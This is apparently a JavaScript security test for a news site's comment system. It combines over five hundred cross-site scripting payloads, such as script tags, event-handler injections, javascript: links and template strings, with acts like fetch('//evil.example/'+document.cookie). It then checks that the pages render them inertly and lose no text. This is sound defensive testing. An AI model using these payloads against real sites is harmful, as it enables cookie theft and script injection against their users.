/*
 * More than five hundred hostile texts on every surface where a comment or a name shows, read by a browser that was told to
 * forget the security policy: what holds here are the pages themselves. Nothing runs, nothing is fetched from anywhere else, and
 * nothing that was typed is lost.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { browser, paper, signIn } from "./paper.js";

/** What a text does if it is taken for more than words: it tells the page, or asks a host that is not ours. */
const ACTS = [
  "ran()", "parent.ran()", "eval('ran()')", "setTimeout(ran)", "import('//evil.example/x.js')",
  "fetch('//evil.example/'+document.cookie)", "location='//evil.example'", "self['r'+'an']()", "ran`1`", "new Function('ran()')()",
];

/** Ways into a page, with a place for the act. @type {((act: string) => string)[]} */
const WAYS = [
  (act) => `<script>${act}</script>`,
  (act) => `<SCRIPT\n>${act}</SCRIPT\t>`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `</p></div></li></ol></main><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</script><script>${act}</script>`,
  (act) => `--><script>${act}</script><!--`,
  (act) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${act}</script><![CDATA[`,
  (act) => `"}]}</script><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<img src=\`x\` onerror=${act}>`,
  (act) => `"><img src=x onerror="${act}">`,
  (act) => `' onmouseover='${act}' autofocus onfocus='${act}' x='`,
  (act) => `" onmouseover="${act}" autofocus onfocus="${act}" x="`,
  (act) => `<svg/onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<svg><style><img src=x onerror="${act}"></style></svg>`,
  (act) => `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="data:text/html,<script>${act}</script>"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<details open ontoggle="${act}">x</details>`,
  (act) => `<video autoplay><source onerror="${act}"></video>`,
  (act) => `<audio src=x onerror="${act}"></audio>`,
  (act) => `<body onload="${act}" onpageshow="${act}">`,
  (act) => `<marquee onstart="${act}">x</marquee>`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<select autofocus onfocus="${act}"></select>`,
  (act) => `<style>@keyframes x{}*{animation:x 1s}</style><b onanimationstart="${act}">x</b>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror='${act}'>">`,
  (act) => `<xmp><p title="</xmp><img src=x onerror='${act}'>">`,
  (act) => `<template shadowrootmode=open><script>${act}</script></template>`,
  (act) => `<base href="//evil.example/"><script src="x.js">${act}</script>`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<link rel="stylesheet" href="//evil.example/x.css" onload="${act}">`,
  (act) => `<form action="//evil.example"><button formaction="javascript:${act}">x</button></form>`,
  (act) => `<a href="javascript:${act}" id="main">x</a>`,
  (act) => `<a href="java\tscript:${act}">x</a>`,
  (act) => `[x](javascript:${act}) ![x](//evil.example/x.png)`,
  (act) => `https://a.example/"onmouseover="${act}`,
  (act) => `https://a.example/'onfocus='${act}'autofocus='`,
  (act) => `https://a.example/<script>${act}</script>`,
  (act) => `https://a.example/?q="><img src=x onerror=${act}>`,
  (act) => `https://javascript:${act}@a.example/`,
  (act) => `> <script>${act}</script>\n>> <img src=x onerror="${act}">\n\nund`,
  (act) => `*<script>${act}</script>* **<img src=x onerror="${act}">**`,
  (act) => `@<img src=x onerror="${act}"> @Moderator`,
  (act) => `{{ ${act} }} {% ${act} %} \${${act}} #{${act}} <%= ${act} %>`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt; &#60;script&#62;${act}`,
  (act) => `\u2028<script>${act}</script>\u2029`,
  (act) => `data: x\n\nevent: thread\ndata: {"ids":[1]}\n\n<script>${act}</script>`,
];

/** Each a text of its own. */
const TEXTS = WAYS.flatMap((way, w) => ACTS.map((act, a) => `${way(act)} Nr${w}-${a}.`));

/** Names that would do harm; the house takes none of them. */
const NAMES = [
  "<script>ran()</script>", "\"><img src=x>", "Anna<b>", "a\u202enna", "An\u200bna", "Anna\u0000", "'onfocus='x", "{{ran()}}", "Аnna", "&lt;Anna&gt;",
];

/** @type {import("./paper.js").Paper} */ let news;
/** @type {import("playwright-core").Browser} */ let chromium;
/** @type {string} */ let article;
/** The comments' numbers in the order of the texts. @type {number[]} */ const ids = [];
/** @type {Awaited<ReturnType<import("playwright-core").BrowserContext["storageState"]>>} */ let signedIn;

before(async () => {
  const settings = { BLATT_COMMENTS_PER_MINUTE: "5000", BLATT_COMMENTS_PER_HOUR: "5000" };
  [news, chromium] = await Promise.all([paper({ settings }), browser()]);
  article = await news.article("seilfaehre");
  const context = await chromium.newContext();
  const page = await context.newPage();
  await signIn(page, news, "leser");
  for (const text of TEXTS) {
    const answer = await context.request.post(`${news.address}${article}/comments`, {
      form: { text }, headers: { "sec-fetch-site": "same-origin" }, maxRedirects: 0,
    });
    assert.equal(answer.status(), 303, `${text}: taken whole or refused with a reason`);
    ids.push(Number(/\d+/.exec(answer.headers().location)?.[0]));
  }
  signedIn = await context.storageState();
  await context.close();
});
after(async () => {
  await chromium?.close();
  await news?.stop();
});

/** A page that would notice. @param {string} [who] */
async function victim(who) {
  const context = await chromium.newContext({ bypassCSP: true, storageState: who === "leser" ? signedIn : undefined });
  const page = await context.newPage();
  /** @type {string[]} */ const harm = [];
  await page.addInitScript(() => {
    const told = /** @type {any} */ (window);
    told.ran = () => void (told.harmed = true);
  });
  page.on("dialog", (dialog) => { harm.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
  page.on("request", (request) => {
    if (new URL(request.url()).origin !== news.address && !request.url().startsWith("data:")) harm.push(`request ${request.url()}`);
  });
  if (who && who !== "leser") await signIn(page, news, who);
  return {
    page,
    /** Opens a page, moves over everything, and finds nothing done. @param {string} path */
    async reads(path) {
      await page.goto(news.address + path, { waitUntil: "load" });
      await page.evaluate(() => {
        for (const element of document.querySelectorAll("main *")) {
          for (const kind of ["mouseover", "focus", "click"]) {
            if (kind !== "click" || element.matches(".said *:not(a)")) element.dispatchEvent(new Event(kind));
          }
        }
      });
      const found = await page.evaluate(() => ({
        harmed: /** @type {any} */ (window).harmed,
        strange: Array.from(document.querySelectorAll(".said *"), (it) => it.localName).filter((name) => !["p", "br", "em", "a", "blockquote"].includes(name)),
        attributes: Array.from(document.querySelectorAll(".said *"), (it) => it.getAttributeNames()).flat().filter((name) => !["href", "rel"].includes(name)),
        links: Array.from(document.querySelectorAll(".said a"), (it) => it.getAttribute("href")).filter((href) => !/^https?:\/\//.test(href ?? "")),
      }));
      assert.deepEqual(found, { harmed: undefined, strange: [], attributes: [], links: [] }, path);
      assert.deepEqual(harm, [], path);
    },
    close: () => context.close(),
  };
}

/** What is read of a text: stars, signs of quoting and the breaks of lines are markup, everything else is words. @param {string} text */
const words = (text) => text.replace(/[\s>*\u2028\u2029]/g, "");

/** The texts on this page, without what is markup. @param {import("playwright-core").Page} page */
const said = (page) => page.locator(".said").evaluateAll((all) => all.map((it) => it.textContent?.replace(/[\s>*\u2028\u2029]/g, "") ?? ""));

describe(`${TEXTS.length} hostile texts do nothing and lose nothing`, () => {
  it("are more than five hundred, and no two alike", () => {
    assert.ok(new Set(TEXTS).size === TEXTS.length && TEXTS.length >= 500, `${TEXTS.length}`);
  });

  it("in the thread, page by page", async () => {
    const reader = await victim();
    /** @type {Set<string>} */ const read = new Set();
    for (let path = `${article}/comments`; path; ) {
      await reader.reads(path);
      for (const text of await said(reader.page)) read.add(text);
      path = (await reader.page.locator("#comments a[rel=next]").getAttribute("href").catch(() => "")) ?? "";
      if (TEXTS.every((text) => read.has(words(text)))) break;
    }
    assert.deepEqual(TEXTS.filter((text) => !read.has(words(text))), [], "nothing is lost");
    await reader.close();
  });

  it("on the article, at the comment, in its versions, in a quote, in a search", async () => {
    const reader = await victim("leser");
    await reader.reads(article);
    for (let at = 0; at < ids.length; at += 9) {
      await reader.reads(`/comments/${ids[at]}`);
      assert.equal((await said(reader.page))[0], words(TEXTS[at]));
    }
    for (const path of [`/comments/${ids[3]}/revisions`, `/comments/${ids[3]}?do=quote`, `/comments/${ids[3]}?do=change`, `/comments/${ids.at(-1)}?do=quote`]) await reader.reads(path);
    for (const query of ["<script>ran()</script>", "\"><img src=x onerror=ran()>", "Nr4"]) await reader.reads(`${article}/comments?q=${encodeURIComponent(query)}`);
    await reader.close();
  });

  it("in a preview and in a refusal, where they come back as typed", async () => {
    const reader = await victim("leser");
    for (let at = 5; at < TEXTS.length; at += 41) {
      await reader.page.goto(`${news.address}${article}/comments/mine`);
      await reader.page.locator('form[action$="/comments"] textarea').last().fill(TEXTS[at]);
      await reader.page.locator("button[value=preview]").click();
      await reader.page.locator(".preview").waitFor();
      assert.equal(await reader.page.locator('form[action$="/comments"] textarea').last().inputValue(), TEXTS[at].replace(/[\u2028\u2029]/g, (sign) => sign));
      assert.equal(await reader.page.evaluate(() => /** @type {any} */ (window).harmed), undefined);
    }
    await reader.close();
  });

  it("on the author's page, in the account, at the desk", async () => {
    const reader = await victim("leser");
    await reader.reads(`/comments/${ids[0]}`);
    const profile = await reader.page.locator('.who a[href^="/readers/"]').first().getAttribute("href") ?? "";
    for (let path = profile, pages = 0; path && pages < 5; pages += 1) {
      await reader.reads(path);
      path = (await reader.page.locator("main a[rel=next]").getAttribute("href").catch(() => "")) ?? "";
    }
    for (const path of ["/account", `${article}/comments/mine`]) await reader.reads(path);
    await reader.close();
    const desk = await victim("moderator");
    for (const path of ["/desk/moderation", `/desk/moderation?comment=${ids[7]}`]) await desk.reads(path);
    await desk.close();
  });

  it("in the feed and in the JSON-LD, word for word", async () => {
    const reader = await victim();
    const feed = await (await fetch(`${news.address}${article}/comments.atom`)).text();
    const entries = await reader.page.evaluate((text) => {
      const xml = new DOMParser().parseFromString(text, "application/xml");
      if (xml.querySelector("parsererror")) throw new Error(xml.querySelector("parsererror")?.textContent ?? "");
      return Array.from(xml.querySelectorAll("entry"), (entry) => {
        const html = new DOMParser().parseFromString(entry.querySelector("content")?.textContent ?? "", "text/html");
        const names = Array.from(html.body.querySelectorAll("*"), (it) => it.localName);
        return { text: (html.body.textContent ?? "").replace(/[\s>*\u2028\u2029]/g, ""), strange: names.filter((name) => !["p", "br", "em", "a", "blockquote"].includes(name)) };
      });
    }, feed);
    const known = new Set(TEXTS.map(words));
    assert.ok(entries.filter(({ text }) => known.has(text)).length >= 25, "the latest are there, whole");
    assert.deepEqual(entries.flatMap(({ strange }) => strange), []);

    await reader.reads(`${article}/comments`);
    const json = await reader.page.locator('script[type="application/ld+json"]').textContent();
    const told = JSON.parse(json ?? "").comment.map((/** @type {{ text: string }} */ it) => words(it.text));
    assert.ok(told.length >= 25 && told.every((/** @type {string} */ text) => known.has(text)), "as typed");
    await reader.close();
  });

  it("arriving live on an open page, and in inbox and mail of whom they answer", async () => {
    const writer = await victim("moderator");
    await writer.page.goto(`${news.address}${article}/comments`);
    const watching = await victim();
    await watching.page.goto(`${news.address}${article}/comments`);
    await watching.page.waitForTimeout(300);
    for (let at = 2; at < TEXTS.length; at += 60) {
      const answer = await writer.page.request.post(`${news.address}${article}/comments`, {
        form: { text: `${TEXTS[at]} Live.`, reply_to: String(ids.at(-1)) }, headers: { "sec-fetch-site": "same-origin" }, maxRedirects: 0,
      });
      assert.equal(answer.status(), 303);
    }
    const bar = watching.page.locator("[data-do=show-new]");
    await bar.waitFor({ state: "visible" });
    await bar.click();
    await watching.page.waitForTimeout(1200);
    assert.equal(await watching.page.evaluate(() => /** @type {any} */ (window).harmed), undefined);
    const reader = await victim("leser");
    await reader.page.waitForTimeout(1000);
    await reader.reads("/account/inbox");
    assert.match(await reader.page.locator("main").innerText(), /geantwortet/);
    const mail = await victim();
    await mail.reads("/desk/mail");
    assert.doesNotMatch(await mail.page.locator("main").innerText(), /ran\(\)/, "T1.6: no reader's words in a letter");
    for (const one of [writer, watching, reader, mail]) await one.close();
  });

  it("and no hostile name is taken", async () => {
    const reader = await victim();
    for (const name of NAMES) {
      await reader.page.goto(`${news.address}/register`);
      await reader.page.locator("input[name=name]").evaluate((field, value) => void (/** @type {HTMLInputElement} */ (field).value = value), name);
      await reader.page.locator("input[name=mail]").first().fill("boese@example.org");
      await reader.page.locator("main form button.primary").first().click();
      await reader.page.waitForLoadState();
      assert.equal(await reader.page.locator("input[name=code]").count(), 0, `${JSON.stringify(name)} is refused`);
      assert.equal(await reader.page.evaluate(() => /** @type {any} */ (window).harmed), undefined);
    }
    await reader.close();
  });
});
